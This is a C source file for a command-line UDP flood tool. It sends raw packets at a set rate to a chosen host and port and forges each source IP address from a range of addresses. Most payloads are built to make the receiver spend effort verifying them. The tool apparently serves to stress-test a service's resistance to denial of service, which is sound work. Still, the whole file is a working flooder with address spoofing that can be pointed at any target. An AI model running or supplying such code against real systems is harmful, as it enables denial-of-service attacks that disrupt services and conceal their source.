/*
 * A stranger's flood: UDP packets to one port, at a rate, until it is ended; says how many it has sent.
 *
 *   flood DESTINATION PORT RATE SOURCE COUNT SOURCEPORT
 *
 * From COUNT addresses beginning with SOURCE, and from SOURCEPORT (0: from any). Of ten packets seven cost a
 * verification (73 bytes, a time that is now's, a scalar in range), one lacks the scalar, one the time as well,
 * and one is of any length.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { PROOF = 73, TIME = 64, LONGEST = 1200, TICK = 5000000 };

static volatile sig_atomic_t over;
static void end(int signal) { (void)signal; over = 1; }

static uint64_t state = 0x9e3779b97f4a7c15;
static uint64_t chance(void) {
	state ^= state << 13;
	state ^= state >> 7;
	return state ^= state << 17;
}

static long long now(void) {
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000000000LL + time.tv_nsec;
}

static int fill(uint8_t *payload, long long i) {
	int kind = i % 10;
	int size = kind == 0 ? (int)(chance() % LONGEST) : PROOF;
	for (int at = 0; at < size; at += 8) {
		uint64_t some = chance();
		memcpy(payload + at, &some, size - at < 8 ? size - at : 8);
	}
	if (kind >= 2) {
		uint32_t seconds = htonl(time(NULL));
		payload[TIME] = 0;
		memcpy(payload + TIME + 1, &seconds, 4);
	}
	if (kind >= 3) payload[TIME - 1] &= 0x0f;
	return size;
}

int main(int argc, char **argv) {
	if (argc != 7) errx(2, "usage: flood DESTINATION PORT RATE SOURCE COUNT SOURCEPORT");
	long long rate = atoll(argv[3]), count = atoll(argv[5]), sent = 0;
	int port = atoi(argv[6]);
	uint8_t packet[sizeof(struct iphdr) + sizeof(struct udphdr) + LONGEST + 8] = { 0 };
	struct iphdr *ip = (struct iphdr *)packet;
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct in_addr first;
	if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) errx(2, "%s: no address", argv[1]);
	if (inet_pton(AF_INET, argv[4], &first) != 1) errx(2, "%s: no address", argv[4]);
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) err(1, "socket");
	signal(SIGTERM, end);
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 60;
	ip->protocol = IPPROTO_UDP;
	ip->daddr = to.sin_addr.s_addr;
	udp->dest = htons(atoi(argv[2]));
	puts("open");
	fflush(stdout);
	long long start = now();
	while (!over) {
		/* What could not be sent in time is not made up for. */
		long long due = (now() - start) * rate / 1000000000LL;
		if (due - sent > rate / 10) {
			start += (due - sent - rate / 10) * 1000000000LL / rate;
			due = sent + rate / 10;
		}
		for (; sent < due; sent++) {
			int size = fill((uint8_t *)(udp + 1), sent);
			ip->saddr = htonl(ntohl(first.s_addr) + (uint32_t)(chance() % count));
			udp->source = htons(port != 0 ? port : 1024 + (int)(chance() % 60000));
			udp->len = htons(sizeof *udp + size);
			sendto(fd, packet, sizeof *ip + sizeof *udp + size, 0, (struct sockaddr *)&to, sizeof to);
		}
		nanosleep(&(struct timespec){ .tv_nsec = TICK }, NULL);
	}
	printf("sent %lld\n", sent);
	return 0;
}
